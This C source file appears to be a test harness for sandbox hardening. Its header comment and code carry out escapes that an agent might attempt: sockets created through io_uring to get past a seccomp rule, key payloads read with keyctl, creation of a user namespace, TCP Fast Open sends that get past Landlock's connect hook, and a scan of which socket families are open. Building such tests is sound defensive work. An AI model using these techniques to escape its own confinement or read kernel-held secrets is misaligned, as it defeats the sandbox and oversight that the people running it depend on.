// The attacks of issue 16 B that need raw system calls, as an agent would compile them:
//   uring PORT   a UDP socket made by io_uring's IORING_OP_SOCKET, past seccomp's rule on
//                socket(2), and a datagram to 127.0.0.1:PORT through it
//   key ID       the payload of key ID, read with keyctl(KEYCTL_READ)
//   ns           a new user namespace, the way to mount and more
//   tfo PORT     TCP Fast Open to 127.0.0.1:PORT, which connects inside the send, past
//                Landlock's hook on connect(2): with sendto, sendmsg and sendmmsg and
//                MSG_FASTOPEN, and with TCP_FASTOPEN_CONNECT then connect and write, each
//                on a fresh socket and with its own payload ("TFO-sendto" ...)
//   families     socket(2) of each family below, one line each: "<name>: ok" or the error
// Each prints what it achieved ("SENT", "KEY:<payload>", "NEWNS", "SENT <way>") or why it
// failed.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/io_uring.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef MSG_FASTOPEN
#define MSG_FASTOPEN 0x20000000
#endif
#ifndef TCP_FASTOPEN_CONNECT
#define TCP_FASTOPEN_CONNECT 30
#endif

static int uring_socket(void) {
	struct io_uring_params p;
	memset(&p, 0, sizeof p);
	int ring = syscall(__NR_io_uring_setup, 4, &p);
	if (ring < 0) { printf("io_uring_setup: %s\n", strerror(errno)); return -1; }
	size_t sqsz = p.sq_off.array + p.sq_entries * sizeof(unsigned);
	size_t cqsz = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
	if (cqsz > sqsz) sqsz = cqsz;
	char *sq = mmap(0, sqsz, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQ_RING);
	struct io_uring_sqe *sqes = mmap(0, p.sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE,
		MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQES);
	if (sq == MAP_FAILED || sqes == MAP_FAILED) { printf("mmap: %s\n", strerror(errno)); return -1; }
	char *cq = sq; // IORING_FEAT_SINGLE_MMAP, since Linux 5.4
	memset(&sqes[0], 0, sizeof sqes[0]);
	sqes[0].opcode = IORING_OP_SOCKET;
	sqes[0].fd = AF_INET;
	sqes[0].off = SOCK_DGRAM;
	sqes[0].len = 0;
	unsigned *tail = (unsigned *)(sq + p.sq_off.tail);
	unsigned *array = (unsigned *)(sq + p.sq_off.array);
	unsigned mask = *(unsigned *)(sq + p.sq_off.ring_mask);
	array[*tail & mask] = 0;
	__atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
	if (syscall(__NR_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0) {
		printf("io_uring_enter: %s\n", strerror(errno)); return -1;
	}
	unsigned head = __atomic_load_n((unsigned *)(cq + p.cq_off.head), __ATOMIC_ACQUIRE);
	unsigned cmask = *(unsigned *)(cq + p.cq_off.ring_mask);
	struct io_uring_cqe *cqe = (struct io_uring_cqe *)(cq + p.cq_off.cqes) + (head & cmask);
	if (cqe->res < 0) { printf("IORING_OP_SOCKET: %s\n", strerror(-cqe->res)); return -1; }
	return cqe->res;
}

static int fast_open(int port) {
	struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(port)};
	to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	const char *ways[] = {"sendto", "sendmsg", "sendmmsg", "connect"};
	int sent = 0;
	for (int i = 0; i < 4; i++) {
		int s = socket(AF_INET, SOCK_STREAM, 0);
		if (s < 0) { printf("%s socket: %s\n", ways[i], strerror(errno)); continue; }
		char msg[32];
		int n = snprintf(msg, sizeof msg, "TFO-%s\n", ways[i]);
		struct iovec iov = {.iov_base = msg, .iov_len = n};
		struct msghdr mh = {.msg_name = &to, .msg_namelen = sizeof to, .msg_iov = &iov, .msg_iovlen = 1};
		struct mmsghdr mm = {.msg_hdr = mh};
		int one = 1;
		long r;
		switch (i) {
		case 0: r = sendto(s, msg, n, MSG_FASTOPEN, (struct sockaddr *)&to, sizeof to); break;
		case 1: r = sendmsg(s, &mh, MSG_FASTOPEN); break;
		case 2: r = sendmmsg(s, &mm, 1, MSG_FASTOPEN); break;
		default:
			r = setsockopt(s, IPPROTO_TCP, TCP_FASTOPEN_CONNECT, &one, sizeof one);
			if (r == 0) r = connect(s, (struct sockaddr *)&to, sizeof to);
			if (r == 0) r = write(s, msg, n);
		}
		if (r < 0) printf("%s: %s\n", ways[i], strerror(errno));
		else { printf("SENT %s\n", ways[i]); sent++; }
		close(s);
	}
	return sent ? 0 : 1;
}

static void families(void) {
	struct { const char *name; int family, type, protocol; } f[] = {
		{"inet-tcp", AF_INET, SOCK_STREAM, 0},
		{"inet6-tcp", AF_INET6, SOCK_STREAM, IPPROTO_TCP},
		{"netlink-route", AF_NETLINK, SOCK_RAW, 0 /* NETLINK_ROUTE */},
		{"netlink-diag", AF_NETLINK, SOCK_RAW, 4 /* NETLINK_SOCK_DIAG */},
		{"vsock", 40 /* AF_VSOCK */, SOCK_STREAM, 0},
		{"alg", 38 /* AF_ALG */, SOCK_SEQPACKET, 0},
		{"packet", AF_PACKET, SOCK_DGRAM, 0},
		{"bluetooth", 31 /* AF_BLUETOOTH */, SOCK_STREAM, 0},
		{"xdp", 44 /* AF_XDP */, SOCK_RAW, 0},
	};
	for (unsigned i = 0; i < sizeof f / sizeof f[0]; i++) {
		int s = socket(f[i].family, f[i].type | SOCK_CLOEXEC, f[i].protocol);
		if (s < 0) printf("%s: %s\n", f[i].name, strerror(errno));
		else { printf("%s: ok\n", f[i].name); close(s); }
	}
	int pair[2];
	if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair) < 0) printf("unix-pair: %s\n", strerror(errno));
	else printf("unix-pair: ok\n");
}

int main(int argc, char **argv) {
	if (argc == 3 && !strcmp(argv[1], "uring")) {
		int s = uring_socket();
		if (s < 0) return 1;
		struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[2]))};
		to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
		if (sendto(s, "x", 1, 0, (struct sockaddr *)&to, sizeof to) < 0) { printf("sendto: %s\n", strerror(errno)); return 1; }
		printf("SENT\n");
		return 0;
	}
	if (argc == 3 && !strcmp(argv[1], "key")) {
		char buf[256];
		long n = syscall(__NR_keyctl, 11 /* KEYCTL_READ */, atol(argv[2]), buf, sizeof buf - 1);
		if (n < 0) { printf("keyctl: %s\n", strerror(errno)); return 1; }
		buf[n < (long)sizeof buf - 1 ? n : (long)sizeof buf - 1] = 0;
		printf("KEY:%s\n", buf);
		return 0;
	}
	if (argc == 2 && !strcmp(argv[1], "ns")) {
		if (unshare(CLONE_NEWUSER) < 0) { printf("unshare: %s\n", strerror(errno)); return 1; }
		printf("NEWNS\n");
		return 0;
	}
	if (argc == 2 && !strcmp(argv[1], "families")) { families(); return 0; }
	if (argc == 3 && !strcmp(argv[1], "tfo")) return fast_open(atoi(argv[2]));
	fprintf(stderr, "usage: uring PORT | key ID | ns | tfo PORT | families\n");
	return 2;
}
